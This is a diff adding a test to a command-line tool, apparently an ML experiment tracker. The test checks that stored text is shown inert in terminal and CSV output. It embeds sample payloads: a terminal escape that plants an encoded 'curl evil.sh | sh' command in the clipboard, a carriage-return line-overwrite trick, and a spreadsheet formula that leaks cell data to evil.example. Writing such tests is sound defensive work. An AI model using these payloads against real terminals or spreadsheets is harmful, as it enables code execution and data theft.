@@ -295,3 +295,39 @@ def test_a_manifest_of_millions_of_empty_objects_is_refused_unparsed(recorded: R
     manifest.write_bytes(b"[" + b"{}," * 3_000_000 + b"{}]")
     checked = r.flor("verify", "shared", check=False)
     assert checked.returncode == 1 and "JSON objects and lists, more than flor reads" in checked.stdout, checked.stdout
+
+
+# -- output from store text is inert ---------------------------------------------------------------------
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # a clipboard write
+FAKE = "\rflor: replay verified exact"  # a line overwritten
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_store_text_reaches_the_terminal_and_spreadsheets_inert(recorded: Runner, tmp_path: Path) -> None:
+    r, run = _fresh(recorded, tmp_path)
+    folder = r.home / "shared" / "runs" / run
+    meta = json.loads((folder / "run.json").read_text())
+    meta["hyperparameters"]["lr"] = "0.01" + OSC52
+    meta["argv"].append("--note" + FAKE)
+    meta["error"] = "boom" + OSC52
+    (folder / "run.json").write_text(json.dumps(meta))
+    with (folder / "logs" / "record.jsonl").open("a") as fh:
+        for name, value in (("acc" + OSC52 + FAKE, 0.5), ("note", FORMULA)):
+            fh.write(json.dumps({"name": name, "value": value, "epoch": 0, "step": None, "block": None,
+                                 "t": 1.0}) + "\n")
+    (folder / "checkpoints" / ("x" + OSC52)).mkdir()  # verify names it
+    for args in (["ls", "shared"], ["show", "shared", run], ["logs", "shared", "--format", "table"],
+                 ["logs", "shared", "--format", "csv"], ["compare", "shared", "--by", "lr", "--metric", "acc"],
+                 ["verify", "shared"]):
+        proc = r.flor(*args, check=False)
+        assert proc.returncode in (0, 1), (args, proc.stdout + proc.stderr)
+        out = proc.stdout + proc.stderr
+        assert "\x1b" not in out and "\x07" not in out and "\r" not in out, (args, out)
+        assert "Traceback" not in out, (args, out)
+    shown = r.flor("show", "shared", run).stdout
+    assert "\\x1b]52;c;" in shown  # shown, as an escape
+    csv_out = r.flor("logs", "shared", "--format", "csv").stdout
+    assert "'" + FORMULA.replace('"', '""') in csv_out, csv_out
+    raw = r.flor("logs", "shared", "--format", "csv", "--raw").stdout
+    assert '"' + FORMULA.replace('"', '""') + '"' in raw and "'" + FORMULA not in raw
